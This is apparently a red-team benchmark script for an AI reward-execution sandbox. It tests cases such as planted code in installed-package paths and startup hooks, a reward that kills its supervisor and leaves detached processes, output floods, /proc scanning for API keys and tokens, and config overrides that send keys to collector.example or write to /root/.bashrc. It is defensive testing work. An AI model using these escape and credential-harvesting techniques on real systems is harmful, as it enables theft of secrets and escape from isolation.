"""An outside red team of the reward sandbox: cases nobody here tried, with totals.

    .venv/bin/python bench/redteam_sandbox.py [--only GROUP[,GROUP...]]

Groups (each case in a scratch folder, loopback only, fake secrets):

- ``origin``: files an installer (or another tool) put in the workspace, given as a reward in
  both forms (``["python", FILE]`` and ``"FILE:main"``), over the MCP tool and the library:
  a conda or pixi environment, a Python installation's standard library, ``node_modules``, an
  egg, an unpacked sdist, a ``--target .`` install with a legacy egg-info or a RECORD whose
  path CSV quotes, a hard link and a symlink to an installed file; and the project's own reward
  beside a ``sitecustomize.py``, a ``usercustomize.py`` and a ``.pth`` in the root, and with
  ``PYTHON*`` variables passed through ``pass_env``. Counted: code run unasked (the file's
  code left its marker).
- ``tree``: a reward that kills or stops its supervisor, then leaves ``setsid``'d sleepers;
  one that checks whether it may signal the server (signal 0: permission only). Counted:
  escapes (sleepers alive after the call returned), a server it could kill.
- ``flood``: stdout with no newline, a million small writes, the report pipe, stdout closed
  early with stderr streaming. Counted: stalls (a tools/list during the flood slower than 1 s),
  wrong messages, peak memory of the process that ran it.
- ``secrets``: a real ``whileai-mcp`` over stdio started by a host process whose own
  environment holds the keys (as a shell that exported them), a fake OPENAI_API_KEY,
  MODAL_TOKEN_SECRET and token; the reward walks ``/proc`` (every environ, every ancestor's
  environ and cmdline, the server's mem and fds, its own fds). Counted: leaks.
- ``report``: a reward that writes its own report line, with a message that quotes what it read.
  Counted: leaks.
- ``grader``: a local run (sft recipe's data folder) whose grader lies in an installed package.
- ``configs``: prime-rl 559b447 settings that run code, send a key to a URL or write outside
  the run's folder, accepted by ``validate_config``.

Prints one line per case and the totals (cases, escapes, code run unasked, crashes, stalls
> 1 s, leaks, data loss).
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))
MCP = Path(sys.executable).with_name("whileai-mcp")
MARK = "open('pwned', 'w').close()\nimport sys\nfor line in sys.stdin: print(0.0)\n" \
       "def main(prompts, completions, **kw):\n    return [0.0] * len(prompts)\n"
OWN = "import sys\nfor line in sys.stdin: print(0.5)\n"
TOTALS = {"cases": 0, "escapes": 0, "code run unasked": 0, "crashes": 0, "stalls > 1 s": 0,
          "leaks": 0, "data loss": 0}


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text))
    return path


def _count(name: str, **found: int) -> None:
    TOTALS["cases"] += 1
    bad = {k: v for k, v in found.items() if v}
    for key, value in bad.items():
        TOTALS[key] += value
    print(f"  {name}: " + (", ".join(f"{k} {v}" for k, v in bad.items()) or "held"), flush=True)


def _scratch(prefix: str) -> Path:
    return Path(tempfile.mkdtemp(prefix=f"rts-{prefix}-"))


def _tool(ws: Path, reward, **extra):
    """cheat_probes over the in-process MCP server on ``ws``: (is_error, text)."""
    from server.app import build_server
    from test_server_support import call

    (ws / "tasks.jsonl").write_text('{"task_id": "t1", "prompt": "p", "answer": "a"}\n')
    result = call(build_server(ws, skills_dir=ws / "no-skills"), "cheat_probes",
                  {"reward": reward, "tasks": "tasks.jsonl", "probes": ["empty"], **extra})
    return result.is_error, result.content[0].text


# --- origin ----------------------------------------------------------------------------------

INSTALLED = {
    # a conda environment created inside the project (conda create -p ./env)
    "conda env script": {"env/conda-meta/history": "", "env/bin/jp.py": MARK},
    "conda env stdlib": {"env/conda-meta/history": "", "env/lib/python3.11/os.py": "",
                         "env/lib/python3.11/http/server.py": MARK},
    # pixi keeps conda environments under .pixi/envs
    "pixi env stdlib": {".pixi/envs/default/conda-meta/history": "",
                        ".pixi/envs/default/lib/python3.11/ensurepip/__main__.py": MARK},
    # a standalone Python unpacked into the project (python-build-standalone), or the root is
    # a home folder with pyenv's versions
    "standalone python": {".python/bin/python3.11": "", ".python/lib/python3.11/os.py": "",
                          ".python/lib/python3.11/compileall.py": MARK},
    "pyenv version": {".pyenv/versions/3.11.9/lib/python3.11/os.py": "",
                      ".pyenv/versions/3.11.9/lib/python3.11/http/server.py": MARK},
    "windows python": {"py/Lib/os.py": "", "py/python.exe": "", "py/Lib/http/server.py": MARK},
    # npm packages ship Python (node-gyp's gyp)
    "node_modules": {"node_modules/node-gyp/package.json": "{}",
                     "node_modules/node-gyp/gyp/gyp_main.py": MARK},
    # setup_requires eggs, and an egg folder anywhere
    ".eggs": {".eggs/foo-1.0-py3.11.egg/EGG-INFO/PKG-INFO": "Name: foo\n",
              ".eggs/foo-1.0-py3.11.egg/foo/cli.py": MARK},
    "egg folder": {"lib/foo-1.0-py3.11.egg/EGG-INFO/PKG-INFO": "Name: foo\n",
                   "lib/foo-1.0-py3.11.egg/foo/__main__.py": MARK},
    # pip download --no-binary + tar xf: an unpacked sdist
    "unpacked sdist": {"vendor/pip-24.0/PKG-INFO": "Metadata-Version: 2.1\nName: pip\n",
                       "vendor/pip-24.0/pyproject.toml": "[project]\nname = 'pip'\n",
                       "vendor/pip-24.0/src/pip/__main__.py": MARK},
    # `pip install --target .` of a legacy (setup.py install) package: an egg-info in the root
    "legacy --target .": {"oldpkg-1.0-py3.11.egg-info/installed-files.txt": "../oldpkg/run.py\n",
                          "oldpkg-1.0-py3.11.egg-info/PKG-INFO": "Name: oldpkg\n",
                          "oldpkg/run.py": MARK},
    # a RECORD path with a comma is CSV-quoted
    "quoted RECORD path": {"weird-1.0.dist-info/RECORD": '"weird/a,b.py",sha256=x,1\n',
                           "weird/a,b.py": MARK},
}


def _origin_case(name: str, files: dict[str, str]) -> None:
    from whileai_core.errors import WhileaiError
    from whileai_core.hacking.reward import reward_runner, reward_spec
    from whileai_core.safepath import Root

    ran = 0
    script = next(p for p, t in files.items() if t == MARK)
    for form in (["python", script], f"{script}:main"):
        for surface in ("mcp", "library"):
            ws = _scratch("origin")
            for path, text in files.items():
                _write(ws / path, text)
            try:
                if surface == "mcp":
                    _tool(ws, form)
                else:
                    reward_runner(reward_spec(form, Root(ws)), root=ws)(
                        [{"prompt": "p", "completion": "c"}])
            except WhileaiError:
                pass
            ran += (ws / "pwned").exists()
    _count(f"{name} ({script}, 2 forms x 2 surfaces)", **{"code run unasked": ran})


def _links_case() -> None:
    """A hard link and a symlink to an installed package's file, inside the project."""
    ws = _scratch("links")
    installed = _write(ws / ".venv/lib/python3.11/site-packages/pip/__main__.py", MARK)
    _write(ws / ".venv/pyvenv.cfg", "")
    os.link(installed, ws / "hard.py")
    os.symlink(installed, ws / "soft.py")
    ran = 0
    for reward in (["python", "hard.py"], "hard.py:main", ["python", "soft.py"], "soft.py:main"):
        _tool(ws, reward)
        ran += (ws / "pwned").exists()
        (ws / "pwned").unlink(missing_ok=True)
    _count("hard link / symlink into site-packages (4 calls)", **{"code run unasked": ran})


def _startup_files_case() -> None:
    """The project's own reward beside startup hooks in the root, and PYTHON* through pass_env."""
    ws = _scratch("startup")
    _write(ws / "grade.py", OWN)
    for hook in ("sitecustomize.py", "usercustomize.py"):
        _write(ws / hook, f"open('pwned-{hook}', 'w').close()\n")
    _write(ws / "hook.pth", "import os; open('pwned-pth', 'w').close()\n")
    _write(ws / "startup.py", "open('pwned-startup', 'w').close()\n")
    saved = {k: os.environ.get(k) for k in ("PYTHONPATH", "PYTHONSTARTUP", "PYTHONINSPECT")}
    os.environ.update(PYTHONPATH=str(ws), PYTHONSTARTUP=str(ws / "startup.py"), PYTHONINSPECT="1")
    try:
        error, text = _tool(ws, ["python", "grade.py"],
                            pass_env=["PYTHONPATH", "PYTHONSTARTUP", "PYTHONINSPECT"])
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
    ran = len(list(ws.glob("pwned*")))
    _count("sitecustomize/usercustomize/.pth in the root, PYTHON* via pass_env"
           + (" (the reward itself failed)" if error else ""), **{"code run unasked": ran})


def origin() -> None:
    print("origin: whose code a reward runs", flush=True)
    for name, files in INSTALLED.items():
        _origin_case(name, files)
    _links_case()
    _startup_files_case()


# --- tree ------------------------------------------------------------------------------------

ESCAPE = """
import os, signal, time
def score(prompts, completions, how, **kw):
    supervisor = os.getppid()
    for i in range(8):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                open(f'pid{i}', 'w').write(str(os.getpid()))
                time.sleep(120)
            os._exit(0)
    while len([f for f in os.listdir('.') if f.startswith('pid')]) < 8:
        time.sleep(0.01)
    os.kill(supervisor, getattr(signal, how[0]))
    time.sleep(120)
"""

SIGNAL_SERVER = """
import os, sys
def _ancestors():
    pid = os.getppid()
    while pid > 1:
        yield pid
        with open(f'/proc/{pid}/stat', 'rb') as fh:
            pid = int(fh.read().rsplit(b')', 1)[1].split()[1])
def score(prompts, completions, server, **kw):
    hits = 0
    for pid in _ancestors():
        if pid == server[0]:
            try:
                os.kill(pid, 0)  # permission check only: nothing is delivered
                hits += 1
            except OSError:
                pass
    try:
        os.kill(server[0], 0)  # by its pid, found or guessed
        hits += 1
    except OSError:
        pass
    return [float(hits > 0)] * len(prompts)
"""


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_bytes().rsplit(b")", 1)[1].split()[0]
    except (OSError, IndexError):
        return False
    return state not in (b"Z", b"X")


def _in(folder: Path) -> list[int]:
    """Live processes whose working directory is ``folder`` (every process a reward there
    starts), by the pids this process sees."""
    found = []
    for name in os.listdir("/proc"):
        try:
            if name.isdigit() and os.readlink(f"/proc/{name}/cwd") == str(folder) \
                    and _alive(int(name)):
                found.append(int(name))
        except OSError:
            pass
    return found


def tree() -> None:
    from whileai_core.errors import WhileaiError
    from whileai_core.hacking.reward import reward_runner

    print("tree: the whole process tree dies", flush=True)
    for how in ("SIGKILL", "SIGSTOP"):
        ws = _scratch("tree")
        _write(ws / "esc.py", ESCAPE)
        began = time.monotonic()
        try:
            reward_runner("esc.py:score", root=ws, timeout_s=3)(
                [{"prompt": "p", "completion": "c", "how": how}])
        except WhileaiError:
            pass
        took = time.monotonic() - began
        time.sleep(0.5)
        started = len(list(ws.glob("pid*")))  # pids as the reward saw them: maybe its namespace's
        alive = _in(ws)
        for p in alive:  # the bench cleans up what the product left
            os.kill(p, signal.SIGKILL)
        _count(f"reward sends {how} to its supervisor, 8 setsid'd sleepers ({started} "
               f"started, call took {took:.1f} s)", escapes=len(alive))
    ws = _scratch("signal")
    _write(ws / "sig.py", SIGNAL_SERVER)
    could = reward_runner("sig.py:score", root=ws, timeout_s=30)(
        [{"prompt": "p", "completion": "c", "server": os.getpid()}])[0]
    _count("reward may signal the process that runs it (the server)", crashes=int(could > 0))


# --- flood -----------------------------------------------------------------------------------

FLOODS = {
    "stdout, no newline, 200 MB": "import sys\nsys.stdin.read()\nb = b'1' * (1 << 20)\n"
                                  "for _ in range(200): sys.stdout.buffer.write(b)\n",
    "a million 1-byte writes to stderr": "import os, sys\nsys.stdin.read()\n"
                                         "for _ in range(1_000_000): os.write(2, b'x')\n"
                                         "print(1.0)\n",
    "the report pipe, 200 MB": "import json, os, sys\nsys.stdin.read()\n"
                               "fd = json.loads(open('/proc/self/cmdline', 'rb').read()"
                               ".split(b'\\0')[-2])['report_fd']\n"
                               "b = b'{}\\n' * (1 << 19)\nfor _ in range(200): os.write(fd, b)\n"
                               "print(1.0)\n",
    "stdout closed, stderr streams 30 MB": "import os, sys, time\nsys.stdin.read()\n"
                                           "print(1.0, flush=True)\nos.close(1)\n"
                                           "for _ in range(30): os.write(2, b'x' * (1 << 20))\n",
}


def _probe_list(ws: Path) -> float:
    """Seconds a tools/list takes on a fresh server over the workspace (the event loop's lag)."""
    from server.app import build_server
    import anyio
    from mcp import Client

    async def go():
        async with Client(build_server(ws, skills_dir=ws / "no-skills")) as client:
            began = time.monotonic()
            await client.list_tools()
            return time.monotonic() - began
    return anyio.run(go)


def flood() -> None:
    print("flood: output bounded as it streams", flush=True)
    for name, code in FLOODS.items():
        ws = _scratch("flood")
        _write(ws / "loud.py", code)
        out = subprocess.run([sys.executable, "-c", FLOOD_RUN, str(ws)], capture_output=True,
                             text=True, timeout=300, cwd=ROOT)
        try:
            took, text, hwm, lag = json.loads(out.stdout.strip().splitlines()[-1])
        except (ValueError, IndexError):
            _count(f"{name}: the run crashed ({out.stderr[-300:]!r})", crashes=1)
            continue
        said = " (the message names the report pipe and another cap)" if "to report" in text \
            else ""
        print(f"    -> {took:.1f} s, peak {hwm / 1024:.0f} MB, tools/list {lag:.2f} s: "
              f"{text.splitlines()[0][:160]}")
        _count(name + said, **{"stalls > 1 s": int(lag > 1.0)})


FLOOD_RUN = """
import json, sys, threading, time
sys.path.insert(0, 'tests')
from pathlib import Path
ws = Path(sys.argv[1])
(ws / 'tasks.jsonl').write_text('{"task_id": "t1", "prompt": "p"}\\n')
import anyio
from mcp import Client
from server.app import build_server
server = build_server(ws, skills_dir=ws / 'no-skills')
async def go():
    async with Client(server) as client:
        began = time.monotonic()
        lags = []
        async def lister():
            await anyio.sleep(0.5)
            t = time.monotonic(); await client.list_tools(); lags.append(time.monotonic() - t)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lister)
            result = await client.call_tool('cheat_probes', {'reward': ['python', 'loud.py'],
                'tasks': 'tasks.jsonl', 'probes': ['empty'], 'timeout_s': 60})
        return time.monotonic() - began, result.content[0].text, max(lags or [0])
took, text, lag = anyio.run(go)
hwm = next(int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:'))
print(json.dumps([took, text, hwm, lag]))
"""


# --- secrets ---------------------------------------------------------------------------------

SPY = """
import json, os, sys
mark = {mark!r}.encode()
seen = {{"environ": [], "cmdline": [], "token_file": False, "mem": [], "fds": [], "visible": 0}}
for pid in os.listdir('/proc'):
    if not pid.isdigit():
        continue
    seen["visible"] += 1
    for what in ("environ", "cmdline"):
        try:
            data = open(f'/proc/{{pid}}/{{what}}', 'rb').read()
        except OSError:
            continue
        if mark in data:
            seen[what].append(int(pid))
        args = data.split(b"\\0")
        if what == "cmdline" and b"--token-file" in args[:-1]:
            path = args[args.index(b"--token-file") + 1].decode()
            try:
                seen["token_file"] = mark in open(path, 'rb').read()
            except OSError:
                pass
    for what in ("mem", "fd"):
        try:
            if what == "mem":
                with open(f'/proc/{{pid}}/mem', 'rb') as fh:
                    fh.read(1)
            else:
                for fd in os.listdir(f'/proc/{{pid}}/fd'):
                    target = os.readlink(f'/proc/{{pid}}/fd/{{fd}}')
                    if 'memfd' in target and int(pid) != os.getpid():
                        seen["fds"].append([int(pid), target])
        except OSError:
            continue
        if what == "mem":
            seen["mem"].append(int(pid))
for fd in os.listdir('/proc/self/fd'):
    try:
        target = os.readlink(f'/proc/self/fd/{{fd}}')
    except OSError:
        continue
    if not target.startswith(('pipe:', '/dev/')) and 'deleted' not in target:
        seen["fds"].append([os.getpid(), target])
open({out!r}, 'w').write(json.dumps(seen))
for line in sys.stdin:
    print(0.0)
"""

HOST = """
import anyio, json, os, sys
from mcp import Client, StdioServerParameters
ws, mcp = sys.argv[1], json.loads(sys.argv[2])
async def go():
    params = StdioServerParameters(command=mcp[0], env=dict(os.environ), cwd=ws,
                                   args=[*mcp[1:], "--root", ws, "--toolsets", "all"])
    async with Client(params) as client:
        result = await client.call_tool("cheat_probes", {
            "reward": ["python", "spy.py"], "tasks": "tasks.jsonl", "probes": ["empty"]})
        return json.dumps(result.structured_content) + result.content[0].text
print(anyio.run(go))
"""


def secrets() -> None:
    print("secrets: a reward under a real whileai-mcp", flush=True)
    if not MCP.exists():
        print("  (skipped: no whileai-mcp)")
        return
    mark = f"RTS{uuid.uuid4().hex}"
    ws = _scratch("secrets")
    out = ws.parent / f"{ws.name}-spy.json"
    _write(ws / "spy.py", SPY.format(mark=mark, out=str(out)))
    (ws / "tasks.jsonl").write_text('{"task_id": "t1", "prompt": "p"}\n')
    # the host (an agent started from a shell that exported the keys) holds them in its own
    # environment, and gives them to the server it spawns
    env = {**os.environ, "OPENAI_API_KEY": f"sk-{mark}", "MODAL_TOKEN_SECRET": f"as-{mark}",
           "WHILEAI_MCP_TOKEN": f"tok-{mark}"}
    out.touch()
    argv, base = _as_user([sys.executable, "-c", HOST, str(ws), "MCP"], ws, out)
    done = subprocess.run(argv, env={**base, **env}, capture_output=True, text=True,
                          timeout=180, cwd=ws)
    answer = done.stdout
    try:
        seen = json.loads(out.read_text())
    except (OSError, ValueError):
        _count(f"stdio: the spy wrote nothing ({done.stdout[-300:]!r} {done.stderr[-600:]!r})", crashes=1)
        return
    print(f"    -> {seen['visible']} processes visible; environ with a key: {seen['environ']}; "
          f"cmdline: {seen['cmdline']}; mem readable: {len(seen['mem'])}; fds: {seen['fds']}")
    server_mem = [p for p in seen["mem"] if p != 0]
    _count("another process's environment holds a key (the host, an ancestor)",
           leaks=len(seen["environ"]))
    _count("a key in a command line", leaks=len(seen["cmdline"]))
    _count("memory of another process readable", leaks=int(len(server_mem) > 1))
    _count("a key in the answer", leaks=int(mark in answer))
    _http_token_file(mark)


HTTP_HOST = """
import json, socket, subprocess, sys, time, urllib.request
ws, mcp, token_file, port = sys.argv[1], json.loads(sys.argv[2]), sys.argv[3], int(sys.argv[4])
proc = subprocess.Popen([*mcp, "--http", "--port", str(port), "--token-file", token_file,
                         "--root", ws, "--toolsets", "all"], stderr=subprocess.DEVNULL)
def post(body, session=None):
    headers = {"Content-Type": "application/json", "Host": f"127.0.0.1:{port}",
               "Accept": "application/json, text/event-stream",
               "Authorization": "Bearer " + open(token_file).read().strip()}
    if session:
        headers.update({"mcp-session-id": session, "mcp-protocol-version": "2025-06-18"})
    request = urllib.request.Request(f"http://127.0.0.1:{port}/mcp", data=json.dumps(body)
                                     .encode(), headers=headers, method="POST")
    with urllib.request.urlopen(request, timeout=120) as reply:
        return reply.headers.get("mcp-session-id"), reply.read().decode()
try:
    for _ in range(300):
        with socket.socket() as sock:
            if sock.connect_ex(("127.0.0.1", port)) == 0:
                break
        time.sleep(0.1)
    session, _ = post({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": {},
        "clientInfo": {"name": "rts", "version": "1"}}})
    print(post({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {
        "name": "cheat_probes", "arguments": {"reward": ["python", "spy.py"],
        "tasks": "tasks.jsonl", "probes": ["empty"]}}}, session)[1])
finally:
    proc.terminate()
    proc.wait(10)
"""


def _as_user(argv: list[str], ws: Path, *others: Path) -> tuple[list[str], dict[str, str]]:
    """``argv`` (with "MCP" standing for the server's command) and its environment, run as an
    unprivileged user when this bench runs as root: a process without capabilities cannot read
    one that has them, so as root every process looks closed. The unprivileged user runs the
    system's python with this checkout and its packages on PYTHONPATH (the venv's interpreter
    may lie where that user cannot go); ``python -m server.main`` is the program whileai-mcp
    runs."""
    env = {k: v for k, v in os.environ.items() if k != "WHILEAI_MCP_TOKEN"}
    env["HOME"] = str(ws)
    if os.getuid() != 0:
        return [json.dumps([str(MCP)]) if a == "MCP" else a for a in argv], env
    import numpy

    python = "/usr/bin/python3.11"
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT), str(Path(numpy.__file__).parents[1])])
    argv = [json.dumps([python, "-m", "server.main"]) if a == "MCP" else a for a in argv]
    argv = [python if a == sys.executable else a for a in argv]
    for path in (ws, *others):
        os.chown(path, 65534, 65534)
        for folder, _, names in os.walk(path):
            os.chown(folder, 65534, 65534)
            for name in names:
                os.chown(os.path.join(folder, name), 65534, 65534)
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *argv], env


def _http_token_file(mark: str) -> None:
    import socket

    ws = _scratch("http")
    out = ws.parent / f"{ws.name}-spy.json"
    _write(ws / "spy.py", SPY.format(mark=mark, out=str(out)))
    (ws / "tasks.jsonl").write_text('{"task_id": "t1", "prompt": "p"}\n')
    token = ws.parent / f"{ws.name}-token"
    token.write_text(f"{mark}{uuid.uuid4().hex}\n")
    token.chmod(0o600)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    out.touch()
    argv, env = _as_user([sys.executable, "-c", HTTP_HOST, str(ws), "MCP", str(token),
                          str(port)], ws, out, token)
    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=180, cwd=ws)
    try:
        seen = json.loads(out.read_text())
    except (OSError, ValueError):
        _count(f"http: the spy wrote nothing ({done.stdout[-700:]!r} {done.stderr[-300:]!r})",
               crashes=1)
        return
    _count("HTTP: the token file, found through the server's command line",
           leaks=int(seen["token_file"]))


# --- report ----------------------------------------------------------------------------------

FORGED = """
import json, os, sys
CREDENTIAL = open({secret!r}).read().strip()
def score(prompts, completions, **kw):
    spec = json.loads(open('/proc/self/cmdline', 'rb').read().split(b'\\0')[-2])
    os.write(spec['report_fd'], (json.dumps({{"raised": {kind!r}, "at": ["x", 1, "y"],
             "message": CREDENTIAL}}) + "\\n").encode())
    os._exit(1)
"""


def report() -> None:
    from whileai_core.errors import WhileaiError
    from whileai_core.hacking.reward import reward_runner

    print("report: the child's own report line", flush=True)
    for kind, note in (("ValueError", ""), ("NameError", " (by design: a reward of yours that "
                                                         "means to leak can write the workspace)")):
        ws = _scratch("report")
        secret = ws.parent / f"{ws.name}-credential"
        value = f"cred-{uuid.uuid4().hex}"
        secret.write_text(value)
        _write(ws / "forge.py", FORGED.format(secret=str(secret), kind=kind))
        try:
            reward_runner("forge.py:score", root=ws)([{"prompt": "p", "completion": "c"}])
            text = ""
        except WhileaiError as err:
            text = str(err)
        leaked = value in text
        if kind == "NameError":
            print(f"  a forged {kind} line with a credential as its message: "
                  f"{'quoted' if leaked else 'not quoted'}{note}")
            continue
        _count(f"a forged {kind} line with a credential as its message", leaks=int(leaked))


COST = """
import json, os, statistics, sys, tempfile, time
from pathlib import Path
from whileai_core.hacking.reward import reward_runner
ws = Path(tempfile.mkdtemp(prefix="rts-cost-"))
(ws / "g.py").write_text("import sys\\nfor line in sys.stdin: print(0.5)\\n")
runner = reward_runner(["python", "g.py"], root=ws)
times = []
for _ in range(int(sys.argv[1])):
    began = time.perf_counter()
    runner([{"prompt": "p", "completion": "c"}])
    times.append(time.perf_counter() - began)
print(json.dumps(statistics.median(times)))
"""


def cost(repeats: int = 15) -> None:
    """A one-item reward call, end to end: this checkout against /work/main (the baseline:
    no namespaces), alternating, each the median of ``repeats`` calls. Not a case."""
    print("cost: a one-item command reward, end to end (not counted as a case)", flush=True)
    main = Path("/work/main")
    if not (main / ".venv/bin/python").exists():
        print("  (skipped: no /work/main checkout to compare with)")
        return
    ours, theirs = [], []
    for _ in range(3):
        for python, cwd, into in ((sys.executable, ROOT, ours),
                                  (str(main / ".venv/bin/python"), main, theirs)):
            out = subprocess.run([python, "-c", COST, str(repeats)], capture_output=True,
                                 text=True, timeout=600, cwd=cwd)
            if out.returncode != 0:
                print(f"  (failed under {python}: {out.stderr[-300:]!r})")
                return
            into.append(json.loads(out.stdout))
    a, b = sorted(ours)[1], sorted(theirs)[1]
    print(f"  median of {repeats} calls (middle of 3 rounds): isolated {a * 1000:.0f} ms, main "
          f"{b * 1000:.0f} ms, ratio {a / b:.2f}")


# --- grader ----------------------------------------------------------------------------------

GRADER_DATA = ".venv/lib/python3.11/site-packages/somepkg/data"


def grader_workspace(ws: Path) -> str:
    """An sft data folder inside an installed package in ``ws``; the ``data`` argument naming
    it (tests/test_redteam_sandbox.py runs the same case)."""
    folder = ws / GRADER_DATA
    _write(ws / ".venv/pyvenv.cfg", "")
    _write(folder / "grader.py", "def grade(ask, reply):\n    return 1.0\n")
    _write(folder / "train.jsonl", '{"task_id": "t", "messages": []}\n')
    _write(folder / "holdout.jsonl", '{"task_id": "t", "messages": []}\n')
    return GRADER_DATA


def grader() -> None:
    """An sft data folder inside an installed package: its grader.py is not the project's."""
    print("grader: the local run's grader", flush=True)
    from whileai_core.errors import WhileaiError
    from whileai_core.runs.targets import resolve_target
    from whileai_core.safepath import Root

    ws = _scratch("grader")
    data = grader_workspace(ws)
    try:
        resolve_target("sft", root=Root(ws), data=data)
        accepted = 1
    except WhileaiError:
        accepted = 0
    _count("an sft data folder whose grader.py lies in site-packages", **{"code run unasked":
                                                                          accepted})


# --- configs ---------------------------------------------------------------------------------

CONFIGS = {  # name -> (what it would do, the override)
    # a key sent to a URL the config names (utils/client.py: api_key_var, headers_from_env)
    "teacher api_key_var to another host": ("leaks", {"orchestrator": {"algo": {"teacher": {
        "base_url": "http://collector.example:8000/v1", "api_key_var": "WANDB_API_KEY"}}}}),
    "teacher headers_from_env to another host": ("leaks", {"teacher": {
        "base_url": "http://collector.example/v1", "headers_from_env": {"X-K": "HF_TOKEN"}}}),
    "sampling source api_key_var to another host": ("leaks", {"orchestrator": {"algo": {
        "sampling": {"source": {"base_url": "https://collector.example/v1",
                                "api_key_var": "HF_TOKEN"}}}}}),
    # an import path into the standard library: an arbitrary call (utils import_object)
    "loss import_path os:system": ("code run unasked", {"trainer": {"loss": {
        "import_path": "os:system"}}}),
    "filter import_path subprocess": ("code run unasked", {"orchestrator": {"algo": {"filter": {
        "import_path": "subprocess:getoutput"}}}}),
    # files written outside the run's folder
    "monitors.file.path absolute": ("data loss", {"orchestrator": {"monitors": {"file": {
        "path": "/root/.bashrc"}}}}),
    "trainer.trace_path ..": ("data loss", {"trainer": {"trace_path": "../../elsewhere/trace"}}),
    "memory_profiler_path absolute": ("data loss", {"trainer": {
        "memory_profiler_path": "/etc/cron.d"}}),
    "conversion_dir absolute": ("data loss", {"trainer": {"model": {
        "conversion_dir": "/data/other-run"}}}),
}
ENV_NAMES = {  # name -> (what it would do, a value)
    "HF_DATASETS_TRUST_REMOTE_CODE": ("code run unasked", "1"),
    "TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": ("code run unasked", "1"),
    "VLLM_ALLOW_INSECURE_SERIALIZATION": ("code run unasked", "1"),
    "TRITON_CACHE_MANAGER": ("code run unasked", "evil:Manager"),
    "TRITON_REMOTE_CACHE_BACKEND": ("code run unasked", "evil:Backend"),
    "HF_MODULES_CACHE": ("code run unasked", "/tmp/planted"),
    "TORCH_EXTENSIONS_DIR": ("code run unasked", "/tmp/planted"),
    "HF_HOME": ("code run unasked", "/tmp/planted"),
    "TORCH_HOME": ("code run unasked", "/tmp/planted"),
    "CUDA_HOME": ("code run unasked", "/tmp/planted"),
    "TORCHINDUCTOR_CACHE_DIR": ("code run unasked", "/tmp/planted"),
    "HF_HUB_CACHE": ("code run unasked", "/tmp/planted"),
    "VLLM_USE_MODELSCOPE": ("code run unasked", "1"),
    "VLLM_ALLOW_RUNTIME_LORA_UPDATING": ("code run unasked", "1"),
    "VLLM_SERVER_DEV_MODE": ("code run unasked", "1"),
    "NCCL_DEBUG_FILE": ("data loss", "/root/.bashrc"),
    "NCCL_TOPO_DUMP_FILE": ("data loss", "/root/x"),
    "WANDB_DIR": ("data loss", "/root"),
}


def configs() -> None:
    from whileai_core.prime_rl import validate_config

    print("configs: prime-rl 559b447 settings", flush=True)
    cases = [(name, what, override) for name, (what, override) in CONFIGS.items()]
    cases += [(f"env_vars.{name}", what, {"env_vars": {name: value}})
              for name, (what, value) in ENV_NAMES.items()]
    for name, what, override in cases:
        refused = [e for e in validate_config(override).errors if "refused by whileai" in e]
        _count(name, **{what: int(not refused)})


GROUPS = {"origin": origin, "tree": tree, "flood": flood, "secrets": secrets, "report": report,
          "grader": grader, "configs": configs, "cost": cost}


def main(argv: list[str] | None = None) -> int:
    import logging

    logging.disable(logging.WARNING)  # the scratch servers have no skills folder: said once here
    parser = argparse.ArgumentParser()
    parser.add_argument("--only", default=",".join(GROUPS))
    args = parser.parse_args(argv)
    for name in args.only.split(","):
        GROUPS[name]()
    print("totals: " + ", ".join(f"{k} {v}" for k, v in TOTALS.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
